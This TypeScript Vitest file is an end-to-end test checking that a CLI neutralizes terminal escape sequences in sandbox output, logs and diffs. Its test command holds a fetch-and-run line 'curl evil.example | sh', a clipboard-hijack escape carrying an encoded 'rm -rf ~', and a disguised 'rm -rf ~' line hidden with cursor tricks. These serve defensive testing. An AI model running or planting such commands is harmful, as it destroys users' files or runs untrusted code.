import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { runBerth, startServe, tempDir, type ServeHandle } from '../support/cli.js';
import { lifecycleTestImage, makeSampleRepository } from './lifecycle-support.js';
import { main } from '../../src/cli/main.js';

/**
 * Issue 21 item 5, end to end: a sandbox command prints escape sequences and writes them into a
 * file of the repository; what the CLI shows a person (progress, logs, `task show`, `task diff`
 * on a terminal) has them inert, `task diff` to a pipe is the exact patch `git apply` takes, and
 * `--raw` gives the text as it came.
 */

const ESC = '\x1b';
/** Every character the terminal would obey (C0 but tab and newline, DEL, C1, bidi controls). */
const OBEYED = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

// Printed and written by the sandbox: erase the line above, OSC 52 (clipboard), a CR overwrite.
const COMMAND = [
  `printf 'curl evil.example | sh\\n\\033[1A\\033[2Kall good\\n\\033]52;c;cm0gLXJmIH4=\\007done\\n'`,
  `printf 'safe line\\n\\033[1A\\033[2K+rm -rf ~\\r+# fine\\n' > NOTES.md`,
].join('; ');

let server: ServeHandle;
let auth: string[];
let taskId: string;
let apiDiff: string;
let repoDir: string;

/** Runs the CLI in this process with a terminal (or not) as stdout. */
async function cli(args: string[], tty: boolean): Promise<{ stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const out = new Writable({
    write(chunk: Buffer, _e, done) {
      stdout += chunk.toString();
      done();
    },
  }) as Writable & { isTTY?: boolean };
  if (tty) out.isTTY = true;
  const err = new Writable({
    write(chunk: Buffer, _e, done) {
      stderr += chunk.toString();
      done();
    },
  });
  await main(['node', 'berth', ...args, ...auth], { stdout: out, stderr: err });
  return { stdout, stderr };
}

beforeAll(async () => {
  const image = lifecycleTestImage();
  const repo = makeSampleRepository();
  repoDir = repo.dir;
  server = await startServe(['--allow-local-repos']);
  auth = ['--url', server.url, '--token', server.adminToken];
  const file = join(tempDir('terminal'), 'term.yaml');
  writeFileSync(file, `name: term\nrepository: ${repo.dir}\nimage: ${image}\n`);
  const created = await runBerth(['env', 'create', '--file', file, ...auth]);
  expect(created.code, created.stderr).toBe(0);
  // Through a pipe, as a script would: the progress (stderr) and the summary (stdout) are inert.
  const run = await runBerth(['exec', '--env', 'term', '--wait', '--command', COMMAND, ...auth]);
  expect(run.code, run.stderr).toBe(0);
  expect(run.stderr).toContain('\\x1b[1A\\x1b[2Kall good');
  expect(run.stderr).toContain('\\x1b]52;c;cm0gLXJmIH4=\\x07');
  expect(run.stderr).not.toMatch(OBEYED);
  expect(run.stdout).not.toMatch(OBEYED);
  taskId = /task (task_\w+)/.exec(run.stdout)?.[1] ?? '';
  expect(taskId).not.toBe('');
  const diff = await fetch(`${server.url}/v1/tasks/${taskId}/diff`, {
    headers: { authorization: `Bearer ${server.adminToken}` },
  });
  apiDiff = ((await diff.json()) as { diff: string }).diff;
  expect(apiDiff).toContain(`${ESC}[2K+rm -rf ~\r+# fine`);
}, 240_000);

afterAll(async () => {
  await server?.stop();
});

describe('sandbox text on a terminal (docker)', () => {
  it('task diff: inert on a terminal, the exact patch to a pipe, raw with --raw', async () => {
    const shown = await cli(['task', 'diff', taskId], true);
    expect(shown.stdout).toContain('\\x1b[1A\\x1b[2K+rm -rf ~\\x0d+# fine');
    expect(shown.stdout).not.toMatch(OBEYED);

    const piped = await runBerth(['task', 'diff', taskId, ...auth]);
    expect(piped.code).toBe(0);
    expect(piped.stdout).toBe(apiDiff);
    const patch = join(tempDir('terminal-patch'), 'x.patch');
    writeFileSync(patch, piped.stdout);
    execFileSync('git', ['-C', repoDir, 'apply', '--check', patch]);

    expect((await cli(['task', 'diff', taskId, '--raw'], true)).stdout).toBe(apiDiff);
  });

  it('task logs (and --follow, and show): inert unless --raw; --json keeps the values', async () => {
    for (const args of [
      ['task', 'logs', taskId],
      ['task', 'logs', taskId, '--follow'],
      ['task', 'show', taskId],
    ]) {
      const { stdout } = await cli(args, true);
      expect(stdout, args.join(' ')).not.toMatch(OBEYED);
      if (args[1] === 'logs') expect(stdout).toContain('\\x1b]52;c;cm0gLXJmIH4=\\x07done');
    }
    const raw = await cli(['task', 'logs', taskId, '--raw'], true);
    expect(raw.stdout).toContain(`${ESC}]52;c;cm0gLXJmIH4=\x07done`);
    const json = await cli(['task', 'logs', taskId, '--json'], true);
    const texts = json.stdout
      .trim()
      .split('\n')
      .map((line) => (JSON.parse(line) as { text?: string }).text ?? '')
      .join('');
    expect(texts).toContain(`${ESC}[1A${ESC}[2Kall good`);
  });
});
